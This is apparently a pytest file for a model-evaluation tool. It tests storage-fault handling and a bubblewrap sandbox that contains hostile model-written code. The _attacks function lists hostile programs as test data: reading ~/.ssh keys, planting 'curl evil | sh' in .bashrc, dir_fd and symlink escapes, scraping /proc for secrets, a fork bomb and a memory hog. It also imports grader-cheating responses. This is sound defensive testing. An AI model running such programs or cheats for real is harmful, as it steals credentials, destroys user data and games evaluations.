"""The storage faults and sandbox attacks again, as an ordinary user (`nobody` when the tests run as root, see
tests/unprivileged.py) through the real CLI and the real package, and with namespaces forbidden for real.

An ordinary user is the common case: permission bits hold for them (a read-only folder is chmod 500), their
own files are what a hostile completion would go for (~/.ssh, ~/.bashrc, the run's files, the response
cache), and bubblewrap runs in a user namespace. Where no namespace can be created (a container without
CAP_SYS_ADMIN, a kernel that forbids user namespaces), code is refused unless `--unsafe-code-execution`."""
from __future__ import annotations

import json
import os
import sqlite3
from pathlib import Path

import pytest
import yaml

import unprivileged
from reliability import tally
from storage_faults import full_disk

N = 40
REPLY = "The answer is (A) " + "because " * 60

needs_user = pytest.mark.skipif(bool(unprivileged.why_not()), reason=f"cannot run as an ordinary user here: "
                                f"{unprivileged.why_not()}")
needs_no_ns = pytest.mark.skipif(bool(unprivileged.why_not(True)), reason="cannot forbid namespaces here: "
                                 f"{unprivileged.why_not(True)}")


@pytest.fixture
def home():
    with unprivileged.user_dir() as d:
        (d / "home").mkdir()
        unprivileged.give(d)
        yield d


def _task_and_cfg(root: Path) -> Path:
    rows = [{"id": f"q{i}", "question": f"Question {i}?", "choices": {"A": "x", "B": "y"}, "answer": "A"}
            for i in range(N)]
    (root / "mc.json").write_text(json.dumps({"task_type": "multiple_choice", "test": rows}))
    cfg = root / "cfg.yaml"
    cfg.write_text(yaml.safe_dump({"method": "single_model", "task": str(root / "mc.json"),
                                   "models": [{"model": "scripted:a", "script": {"default": REPLY}}],
                                   "decoding": {"temperature": 0.0}}))
    unprivileged.give(root)
    return cfg


def _moco(home: Path, *args: str, **env: str):
    return unprivileged.run(["python", "-m", "moco", *args], home / "home", env=env)


def _one_line(r) -> str:
    err = r.stderr.strip()
    assert r.returncode == 2 and "\n" not in err and "Traceback" not in err, (r.returncode, r.stderr[-1500:])
    return err


def _no_temporaries(folder: Path) -> bool:
    return not [p for p in folder.rglob("*") if ".tmp" in p.name]


@needs_user
def test_read_only_run_and_cache_folders_as_an_ordinary_user(home):
    cfg = _task_and_cfg(home)
    ro = home / "ro"
    ro.mkdir()
    unprivileged.give(ro)
    ro.chmod(0o555)  # the user's own folder, made read-only: permission bits hold for them
    err = _one_line(_moco(home, "run", str(cfg), "--out", str(ro / "run"),
                          MOCO_RESPONSE_CACHE=str(home / "cache.sqlite")))
    assert str(ro / "run") in err and ("permission denied" in err.lower() or "read-only" in err), err
    err = _one_line(_moco(home, "run", str(cfg), "--out", str(home / "run"),
                          MOCO_RESPONSE_CACHE=str(ro / "responses.sqlite")))
    assert "responses.sqlite" in err, err
    assert not (ro / "run").exists() and not (home / "run").exists() and list(ro.iterdir()) == []
    tally("faults injected", 2)


@needs_user
def test_a_corrupt_cache_as_an_ordinary_user_is_moved_aside_or_named(home):
    cfg = _task_and_cfg(home)
    cache = home / "cache" / "responses.sqlite"
    cache.parent.mkdir()
    cache.write_bytes(os.urandom(64 * 1024))
    unprivileged.give(cache.parent)
    r = _moco(home, "run", str(cfg), "--out", str(home / "run"), MOCO_RESPONSE_CACHE=str(cache))
    assert r.returncode == 0, r.stderr[-1500:]
    assert "is corrupt" in r.stderr and "moved aside" in r.stderr
    assert [p.name for p in cache.parent.iterdir() if ".corrupt-" in p.name]
    assert json.loads((home / "run" / "metrics.json").read_text())["n"] == N
    db = sqlite3.connect(cache)
    assert db.execute("select count(*) from responses").fetchone()[0] == N  # a fresh cache took its place
    db.close()
    # a corrupt cache in a folder the user cannot write: it cannot be moved aside, so one line names it
    (home / "run").rename(home / "run1")
    cache.write_bytes(os.urandom(64 * 1024))
    cache.parent.chmod(0o555)
    err = _one_line(_moco(home, "run", str(cfg), "--out", str(home / "run"), MOCO_RESPONSE_CACHE=str(cache)))
    assert str(cache) in err and "corrupt" in err, err
    tally("faults injected", 2)


@needs_user
@pytest.mark.parametrize("where", ["run", pytest.param("cache", marks=pytest.mark.slow)])  # root: test_storage_faults
def test_a_full_disk_as_an_ordinary_user_is_one_line_and_a_failed_manifest(home, where):
    cfg = _task_and_cfg(home)
    with full_disk(home / "disk", "8k" if where == "run" else "96k") as disk:
        unprivileged.give(disk)
        out = disk / "run" if where == "run" else home / "run"
        cache = home / "cache.sqlite" if where == "run" else disk / "responses.sqlite"
        err = _one_line(_moco(home, "run", str(cfg), "--out", str(out), MOCO_RESPONSE_CACHE=str(cache)))
        assert "disk full" in err or "disk is full" in err, err
        man = json.loads((out / "manifest.json").read_text())
        assert man["status"] == "failed" and "full" in man["error"]
        assert _no_temporaries(out) and _no_temporaries(disk) and not (out / "metrics.json").exists()
    tally("faults injected")


# -- code execution as an ordinary user ---------------------------------------------------------------------

def _user_files(home: Path) -> dict[str, Path]:
    """What an ordinary user has and a completion would go for."""
    h = home / "home"
    (h / ".ssh").mkdir()
    files = {"ssh key": h / ".ssh" / "id_ed25519", "bashrc": h / ".bashrc", "notes": h / "notes.txt",
             "predictions": home / "run" / "predictions.jsonl", "cache": h / ".cache" / "moco" / "responses.sqlite"}
    files["predictions"].parent.mkdir()
    files["cache"].parent.mkdir(parents=True)
    files["ssh key"].write_text("-----BEGIN OPENSSH PRIVATE KEY----- s3cret-key\n")
    files["bashrc"].write_text("export PS1='$ '\n")
    files["notes"].write_text("my notes\n")
    files["predictions"].write_text('{"index": 0, "score": 0.0}\n')
    files["cache"].write_bytes(b"SQLite format 3\x00" + b"\x00" * 4080)
    unprivileged.give(home)
    files["ssh key"].chmod(0o600)
    return files


def _attacks(home: Path, files: dict[str, Path]) -> dict[str, str]:
    h, rd = str(home / "home"), str(home / "run")
    key, rc, notes, preds, cache = (str(files[k]) for k in ("ssh key", "bashrc", "notes", "predictions", "cache"))
    return {
        "read ~/.ssh": f"print(open({key!r}).read())",
        "append to ~/.bashrc": f"open({rc!r}, 'a').write('curl evil | sh\\n')",
        "delete the user's file": f"import os\nos.remove({notes!r})",
        "rewrite predictions.jsonl": f"open({preds!r}, 'w').write('{{\"index\": 0, \"score\": 1.0}}\\n')",
        "corrupt the response cache": f"open({cache!r}, 'r+b').write(b'garbage')",
        "dir_fd escape into home": "import os\nd = os.open('/', os.O_RDONLY)\nos.chdir('/tmp')\n"
                                   f"print(os.read(os.open({key[1:]!r}, os.O_RDONLY, dir_fd=d), 100))",
        "dir_fd write into home": "import os\nd = os.open('/', os.O_RDONLY)\n"
                                  f"os.write(os.open({(h + '/pwned')[1:]!r}, os.O_WRONLY | os.O_CREAT, dir_fd=d), b'x')",
        "listdir home": f"import os\nprint(os.listdir({h!r}))",
        "scandir the run": f"import os\nprint([e.name for e in os.scandir({rd!r})])",
        "symlink to home": f"import os\nos.symlink({h!r}, 'h')\nopen('h/pwned', 'w').write('x')",
        "rename into home": f"import os\nopen('x', 'w').write('x')\nos.rename('x', {h + '/pwned'!r})",
        "proc cmdline of others": "import os\nfound = []\nfor p in os.listdir('/proc'):\n    try:\n"
                                  "        found.append(open(f'/proc/{p}/cmdline', 'rb').read())\n    except OSError:\n"
                                  "        pass\nassert any(b's3cret-token' in f for f in found)",
        "proc root of the parent": f"import os\nassert os.path.exists('/proc/%d/root' % os.getppid() + {h!r})",
        "write /tmp of the host": "open('/tmp/moco-user-pwned', 'w').write('x')\n"
                                  "import os\nassert os.path.exists('/tmp/moco-user-pwned')\nassert False",
        "dev shm": "open('/dev/shm/moco-user-pwned', 'w').write('x')\nassert False",  # the host's is checked
        "network": "import socket\nsocket.create_connection(('127.0.0.1', 22), timeout=1)",
        "fork bomb": "import os\nwhile True:\n    os.fork()",
        "memory hog": "x = bytearray(4 * 1024 ** 3)",
        "disk per item": "for i in range(100):\n    open(f'/tmp/f{i}', 'wb').write(b'x' * (4 * 1024 * 1024))",
    }


USER_SCRIPT = """
import json, sys
from moco.scoring import sandbox
from moco.scoring.code_execution import CodeExecutionScorer
from moco.tasks.base import Example
sys.path.insert(0, {tests!r})
from code_cheats import CHEATS, CONSTANT_CHEAT, cheat_response
sandbox.AUDIT_LAYER = False  # the OS sandbox alone is the boundary
progs = json.loads(open({progs!r}).read())
L = sandbox.SandboxLimits(timeout_s=4, memory_mb=256, max_processes=4, max_file_mb=2, disk_mb=4)
outs = sandbox.run_many(list(progs.values()), L, workers=2)
test = "def check(candidate):\\n    assert candidate([3, 1, 2]) == [1, 2, 3]\\n    assert candidate([]) == []\\n"
item = Example("1", 0, "test", "def sort_list(xs):\\n    pass\\n", "", None, None, {{"test": test, "entry_point": "sort_list"}})
responses = ["```python\\ndef sort_list(xs):\\n    return sorted(xs)\\n```", CONSTANT_CHEAT,
             *[cheat_response(f, "sort_list") for f in CHEATS]]
res = CodeExecutionScorer(limits=L, workers=2).score_all([item] * len(responses), responses)
print(json.dumps({{"outcomes": {{k: [o.passed, o.stdout[-400:], o.stderr[-400:]] for k, o in zip(progs, outs)}},
                  "scores": [r.score for r in res], "isolation": sandbox.describe_isolation()}}))
"""


@needs_user
def test_sandbox_attacks_as_an_ordinary_user_touch_none_of_their_files(home):
    import subprocess
    import sys

    files = _user_files(home)
    before = {k: p.read_bytes() for k, p in files.items()}
    progs = {"control": "open('scratch.txt', 'w').write('ok')\nprint(sum(range(10)))", **_attacks(home, files)}
    (home / "progs.json").write_text(json.dumps(progs))
    unprivileged.give(home / "progs.json")
    secret = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "--token", "s3cret-token"])
    try:
        r = unprivileged.run(["python", "-c", USER_SCRIPT.format(tests=str(unprivileged.ROOT / "tests"),
                                                                 progs=str(home / "progs.json"))], home / "home")
        assert secret.poll() is None
    finally:
        secret.kill()
        secret.wait()
    assert r.returncode == 0, r.stderr[-3000:]
    got = json.loads(r.stdout.strip().splitlines()[-1])
    passed = [k for k, (ok, _o, _e) in got["outcomes"].items() if ok]
    assert passed == ["control"], {k: got["outcomes"][k] for k in passed}  # programs do run; no attack passes
    assert got["scores"][0] == 1.0 and sum(got["scores"][1:]) == 0, got["scores"]
    assert got["isolation"]["sandbox"] == "bubblewrap" and got["isolation"]["runs_as"] == "user namespace"
    assert {k: p.read_bytes() for k, p in files.items()} == before
    assert not (home / "home" / "pwned").exists()
    assert not Path("/tmp/moco-user-pwned").exists() and not Path("/dev/shm/moco-user-pwned").exists()
    printed = "".join(o for _ok, o, _e in got["outcomes"].values())  # what the programs managed to print
    assert "s3cret-key" not in json.dumps(got["outcomes"]) and "OPENSSH" not in printed
    assert ".bashrc" not in printed and "notes.txt" not in printed and "predictions.jsonl" not in printed
    tally("hostile completions tried", len(progs) - 1 + len(got["scores"]) - 1)


# -- without namespaces: refused unless opted in --------------------------------------------------------------

def _code_configs(root: Path) -> tuple[Path, Path]:
    from test_hostile_code import _code_task_and_configs

    cheater, honest = _code_task_and_configs(root)
    unprivileged.give(root)
    return cheater, honest


@needs_user
@needs_no_ns
@pytest.mark.parametrize("who", ["ordinary user", pytest.param("root without capabilities", marks=pytest.mark.slow)])
def test_without_namespaces_code_is_refused_unless_opted_in(home, who):
    """bwrap is installed but cannot create a namespace (forbidden for real: bwrap --disable-userns around
    the run; for root also --cap-drop ALL, as in a container): `moco run` refuses in one line quoting bwrap;
    `--unsafe-code-execution` runs the code."""
    if who.startswith("root") and os.geteuid() != 0:
        pytest.skip("the tests do not run as root")
    cheater, honest = _code_configs(home)
    if who.startswith("root"):  # root's own files: without CAP_DAC_OVERRIDE it cannot write nobody's
        for p in [home, *home.rglob("*")]:
            os.chown(p, 0, 0)

    def run(*args: str):
        return unprivileged.run(["python", "-m", "moco", *args], home / "home", no_namespaces=who == "ordinary user",
                                as_root=who.startswith("root"))

    err = _one_line(run("run", str(cheater), "--out", str(home / "refused")))
    assert "refusing to run model-written code" in err and "cannot create namespaces" in err, err
    assert "--unsafe-code-execution" in err and not (home / "refused").exists()
    r = run("--unsafe-code-execution", "run", str(honest), "--out", str(home / "opted-in"))
    assert r.returncode == 0, r.stderr[-2000:]
    assert "WITHOUT an OS sandbox" in r.stderr
    assert json.loads((home / "opted-in" / "metrics.json").read_text())["score"] == 1.0
    tally("faults injected", 2)


@needs_user
def test_without_bubblewrap_on_the_path_an_ordinary_user_is_refused(home):
    cheater, _ = _code_configs(home)
    r = unprivileged.run(["python", "-m", "moco", "run", str(cheater), "--out", str(home / "refused")],
                         home / "home", env={"PATH": "/nonexistent"})
    err = _one_line(r)
    assert "bubblewrap (bwrap) is not installed" in err and not (home / "refused").exists(), err
    tally("faults injected")
